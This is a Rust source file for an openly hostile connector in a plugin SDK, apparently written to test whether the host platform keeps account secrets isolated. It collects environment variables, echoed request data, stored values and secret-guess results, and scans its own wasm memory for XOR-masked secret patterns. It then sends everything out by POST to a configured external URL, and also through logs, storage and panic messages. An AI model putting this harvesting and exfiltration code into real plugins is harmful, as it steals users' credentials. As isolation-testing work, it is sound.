//! Looks for the account's secrets everywhere a connector can look, its own memory included, and carries what it saw out
//! by every way there is.
//!
//! It must not be told what it looks for: the patterns come XORed with [`MASK`], in hexadecimal, and are compared byte by
//! byte, so that no plain copy comes into being by searching.

use std::fmt::Write as _;

use tradepost_sdk::prelude::*;

use crate::requests::seen;
use crate::{Findings, found};

/// What patterns are XORed with.
const MASK: u8 = 0xa5;

/// Most bytes of what was seen that go into one value in storage.
const PIECE: usize = 64 << 10;

/// Paths at which the server repeats, in one way or another, what it was sent; the setting `paths` picks others.
const PATHS: &str = "/echo?q=1,/echo-fails,/echo-redirects,/echo-broken,/echo-in-headers,/echo-encoded";

/// Asks the server to repeat itself, searches its memory, then tells everybody.
pub(crate) fn gather() -> Findings {
    let mut seen_so_far = settings::text();
    for (name, value) in std::env::vars() {
        let _ = write!(seen_so_far, "\n{name}={value}");
    }
    let other = settings::required("other-url")?;
    let paths = settings::field("paths")?.unwrap_or_else(|| PATHS.to_owned());
    for path in paths.split(',') {
        let body = r#"{"a":"{password}"}"#;
        let requests = vec![
            http::get(path).effect(Effect::Read),
            http::post(path).json(body).effect(Effect::Read),
            http::post(path).json(body).anonymous().effect(Effect::Read),
        ];
        for outcome in requests.into_iter().map(http::Request::send) {
            for (name, value) in seen(outcome) {
                let _ = write!(seen_so_far, "\n{name}: {value}");
            }
        }
    }
    for key in storage::list("", None)? {
        let value = storage::get(&key)?.unwrap_or_default();
        let _ = write!(seen_so_far, "\n{key}={}", String::from_utf8_lossy(&value));
    }
    for guess in ["", "password", "{password}"] {
        let answer = secrets::matches("password", guess.as_bytes());
        let _ = write!(seen_so_far, "\nguess: {answer:?}");
    }

    let mut findings = Vec::new();
    for (index, masked) in settings::required("masked")?.split(',').enumerate() {
        findings.push(found(&format!("found {index}"), occurrences(&bytes_of(masked))));
    }

    for (index, piece) in seen_so_far.as_bytes().chunks(PIECE).enumerate() {
        storage::set(&format!("seen/{index}"), piece, None)?;
    }
    for line in seen_so_far.lines() {
        log::error(line, &[("seen", line)]);
    }
    http::post(format!("{other}/drop")).body(seen_so_far.clone()).anonymous().send()?;
    match settings::field("ending")?.as_deref() {
        Some("panic") => panic!("{seen_so_far}"),
        Some("error") => Err(error::protocol("/seen", "nothing", &seen_so_far).with_detail(seen_so_far)),
        _ => {
            findings.push(found("seen", seen_so_far));
            Ok(findings)
        }
    }
}

/// Asks whether the secret of the setting `secret` is the setting `own`, or the masked one.
pub(crate) fn guess() -> Findings {
    let name = settings::required("secret")?;
    let unmasked: Vec<u8> = bytes_of(&settings::required("masked")?).into_iter().map(|byte| byte ^ MASK).collect();
    let asked = |candidate: &[u8]| match secrets::matches(&name, candidate) {
        Ok(answer) => answer.to_string(),
        Err(refused) => format!("refused: {}", refused.message),
    };
    Ok(vec![found("its own", asked(settings::required("own")?.as_bytes())), found("masked", asked(&unmasked))])
}

/// Hexadecimal digits as bytes.
fn bytes_of(digits: &str) -> Vec<u8> {
    let pairs = digits.as_bytes().chunks(2);
    pairs.filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect()
}

/// How often a masked pattern stands, unmasked, in the whole memory of this instance.
#[cfg(target_family = "wasm")]
#[allow(unsafe_code, reason = "there is no safe way to read memory that belongs to nobody")]
fn occurrences(masked: &[u8]) -> usize {
    const PAGE: usize = 64 << 10;
    let end = core::arch::wasm32::memory_size(0) * PAGE;
    // SAFETY: every address below the memory's size can be read, and a volatile read assumes nothing about its content.
    let at = |address: usize| unsafe { core::ptr::read_volatile(address as *const u8) };
    // Address 0 is Rust's null.
    (1..end.saturating_sub(masked.len()))
        .filter(|&start| masked.iter().enumerate().all(|(offset, byte)| at(start + offset) ^ MASK == *byte))
        .count()
}

/// Natively there is no memory of its own to search: this connector only attacks as a component.
#[cfg(not(target_family = "wasm"))]
fn occurrences(masked: &[u8]) -> usize {
    masked.iter().filter(|byte| **byte ^ MASK == 0).count()
}
